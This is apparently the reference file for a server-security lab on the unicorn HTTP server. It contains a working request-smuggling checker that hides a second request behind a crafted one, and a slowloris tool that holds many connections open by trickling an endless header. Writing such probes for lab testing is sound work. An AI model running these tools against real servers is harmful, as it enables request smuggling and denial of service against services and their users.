"""Lab 16's reference: a corpus that unicorn answers as it says, and two small attack tools.

unicorn has no code that attacks servers, so the checker and the probe are written here, small
and plain, with the standard library only. The corpus (corpus/ beside this file) is in the
notation of tests/requests/, and its statuses are what unicorn's parser and framing rules
(unicorn/http/parser.py, unicorn/http/framing.py) answer; unicorn's own, larger corpus is
tests/requests/invalid/.
"""

import select
import socket
import time
from pathlib import Path

CORPUS = Path(__file__).with_name("corpus")

HIDDEN = b"GET /hidden HTTP/1.1\r\nHost: lab\r\nConnection: close\r\n\r\n"
QUIET = 1.0
TRICKLE = 0.2
# The start of a head that never ends: a header whose value grows by one byte per TRICKLE.
SLOW_HEAD = b"GET / HTTP/1.1\r\nHost: lab\r\nX-Slow: "
ORDINARY = b"GET / HTTP/1.1\r\nHost: lab\r\nConnection: close\r\n\r\n"


def hidden_request_answered(address: tuple[str, int], raw: bytes) -> bool:
    with socket.create_connection(address, timeout=QUIET) as sock:
        try:
            sock.sendall(raw + HIDDEN)
        except OSError:
            pass  # the server may close before it has read everything: read what it said
        return count_responses(read_all(sock)) > 1


def read_all(sock: socket.socket) -> bytes:
    """Everything the server sends until it closes, resets, or is QUIET for a while."""
    received = b""
    while True:
        try:
            data = sock.recv(65536)
        except (TimeoutError, ConnectionResetError):
            return received
        if not data:
            return received
        received += data


def count_responses(data: bytes) -> int:
    """How many whole responses `data` holds, each framed by its Content-Length."""
    count = 0
    while data.startswith(b"HTTP/1.") and b"\r\n\r\n" in data:
        head, _, rest = data.partition(b"\r\n\r\n")
        length = 0
        for line in head.split(b"\r\n")[1:]:
            name, _, value = line.partition(b":")
            if name.strip().lower() == b"content-length":
                length = int(value.strip())
        count += 1
        data = rest[length:]
    return count


def slow_client(address: tuple[str, int], seconds: float) -> bytes:
    received = b""
    deadline = time.monotonic() + seconds
    with socket.create_connection(address, timeout=TRICKLE) as sock:
        sock.sendall(SLOW_HEAD)
        while time.monotonic() < deadline:
            try:
                data = sock.recv(65536)
            except TimeoutError:
                if not trickle(sock):
                    break
                continue
            except ConnectionResetError:
                break
            if not data:
                break
            received += data
    return received


def trickle(sock: socket.socket) -> bool:
    """Send one more byte of a header that never ends; False once the server has gone."""
    try:
        sock.sendall(b"z")
    except OSError:
        return False
    return True


def slowloris(address: tuple[str, int], connections: int, seconds: float) -> bool:
    """The slow clients connect first, so a server that takes connections in order reaches
    the ordinary request only after them; then everyone waits, trickling, for `seconds`."""
    slow = [socket.create_connection(address, timeout=seconds) for _ in range(connections)]
    ordinary = socket.create_connection(address, timeout=seconds)
    try:
        for sock in slow:
            sock.sendall(SLOW_HEAD)
        ordinary.sendall(ORDINARY)
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline:
            ready, _, _ = select.select([ordinary], [], [], TRICKLE)
            if ready:
                return not ordinary.recv(65536).startswith(b"HTTP/1.1 200")
            for sock in slow:
                trickle(sock)
        return True
    finally:
        for sock in [*slow, ordinary]:
            sock.close()
